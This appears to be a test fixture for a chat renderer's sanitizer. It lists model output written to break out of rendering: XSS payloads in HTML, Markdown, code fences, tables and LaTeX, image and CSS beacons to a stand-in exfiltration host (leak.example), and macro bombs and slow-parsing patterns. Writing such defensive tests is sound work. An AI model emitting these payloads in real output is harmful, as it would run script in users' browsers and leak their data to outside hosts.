@@ -1,0 +1,57 @@
+// What a model may write to get out of its answer. `window.broken_out` is set by whichever of them runs.
+
+const run = 'window.broken_out=1';
+
+export const hostile_texts = [
+    `<script>${run}</script>`,
+    `<ScRiPt>${run}</sCrIpT>`,
+    `<img src=x onerror=${run}>`,
+    `<img/src/onerror=${run}>`,
+    `<svg onload=${run}><circle r=9></svg>`,
+    `<svg><p><style><img src=x onerror=${run}></style></p></svg>`,
+    `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
+    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>"></mtext></math>`,
+    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
+    `<p style="position:fixed;inset:0;background:url(https://leak.example/style)">over all</p>`,
+    `<style>body{background:url(https://leak.example/css)}</style>`,
+    `<form action="https://leak.example/form"><input name=x autofocus onfocus=${run}><button>Go</button></form>`,
+    `<iframe srcdoc="<script>parent.broken_out=1</script>"></iframe>`,
+    `<iframe src="javascript:parent.broken_out=1"></iframe>`,
+    `<object data="https://leak.example/o"></object><embed src="https://leak.example/e">`,
+    `<video src="https://leak.example/v" onerror=${run}></video><audio src=x onerror=${run}>`,
+    `<base href="https://leak.example/"><link rel=stylesheet href="https://leak.example/l">`,
+    `<meta http-equiv=refresh content="0;url=https://leak.example/m">`,
+    `<details open ontoggle=${run}><summary>x</summary></details>`,
+    `<template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
+    `<a id=composer name=composer href="javascript:${run}">clobber</a>`,
+    `<b onmouseover=${run}>b</b> <kbd style="color:red">k</kbd> <em\nonclick=${run}>e</em>`,
+    `[a](javascript:${run})`,
+    `[b](JaVaScRiPt:${run})`,
+    `[c](&#106;avascript:${run})`,
+    `[d](<java\tscript:${run}>)`,
+    `[e](data:text/html,<script>${run}</script>)`,
+    `[f](vbscript:${run}) <javascript:${run}>`,
+    `[g][h]\n\n[h]: javascript:${run}`,
+    `[i](https://example.com "x\\" onmouseover=${run} y=\\"")`,
+    `![picture](https://leak.example/picture.png)`,
+    `![p](x" onerror="${run})`,
+    `<img src="https://leak.example/picture.png">`,
+    `\`\`\`<img src=x onerror=${run}>\n<img src=x onerror=${run}>\n\`\`\``,
+    `\`\`\`" onmouseover="${run}\ncode\n\`\`\``,
+    `\`\`\`html\n<script>${run}</script><img src=x onerror=${run}>\n\`\`\``,
+    `$\\href{javascript:${run}}{x}$`,
+    `$\\url{javascript:${run}}$`,
+    `$\\htmlData{x="y" onclick=${run}}{z}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlId{composer}{x}$`,
+    `$\\includegraphics{https://leak.example/tex.png}$`,
+    `$\\text{<img src=x onerror=${run}>}$ $<script>${run}</script>$`,
+    `$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a$$`,
+    `$\\rule{1000000em}{1000000em}$ $\\kern 99999em x$`,
+    `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`,
+];
+
+/** Patterns that a bad reader of Markdown takes more than linear time, or memory, for. */
+export const costly_patterns = [
+    ...['**a ', '*a', '_a ', '`', '``a`', '- ', '[', '\\*', '> ', '```\n', '$', '$$ ', '\\(', '<', '<b>', '| a ', '![](', '&'],
+    ...['a\n', '1. a\n', '[a]: b\n', '|-|\n', '<!--', '~~a ', 'https://a', '\\def\\a{', '\t- '],
+];
